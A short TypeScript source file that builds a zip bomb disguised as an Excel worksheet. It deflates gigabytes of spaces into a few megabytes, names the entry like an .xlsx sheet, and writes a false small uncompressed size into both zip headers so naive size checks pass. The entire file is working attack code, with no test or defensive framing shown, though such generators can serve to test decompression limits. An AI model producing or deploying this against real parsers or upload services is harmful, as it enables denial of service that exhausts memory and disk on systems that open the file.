// A zip bomb shaped like an .xlsx worksheet: a few MiB that inflate to
// gigabytes, with a central directory that lies about the size.
import { createDeflateRaw } from 'node:zlib';

/** `size` bytes of spaces, deflated a piece at a time (never held whole). */
async function deflatedSpaces(size: number): Promise<Buffer> {
  const z = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  z.on('data', (b: Buffer) => out.push(b));
  const done = new Promise((resolve, reject) => z.on('end', resolve).on('error', reject));
  const piece = Buffer.alloc(16 * 1024 * 1024, 0x20);
  for (let left = size; left > 0; left -= piece.length) {
    const ok = z.write(left >= piece.length ? piece : piece.subarray(0, left));
    if (!ok) await new Promise((r) => z.once('drain', r));
  }
  z.end();
  await done;
  return Buffer.concat(out);
}

/** A one-entry zip named like a worksheet whose content inflates to `size` bytes of spaces. */
export async function zipBomb(size: number): Promise<Buffer> {
  const data = await deflatedSpaces(size);
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(1000, 22); // a declared size that lies
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(1000, 24);
  central.writeUInt16LE(name.length, 28);
  const cdOffset = 30 + name.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}
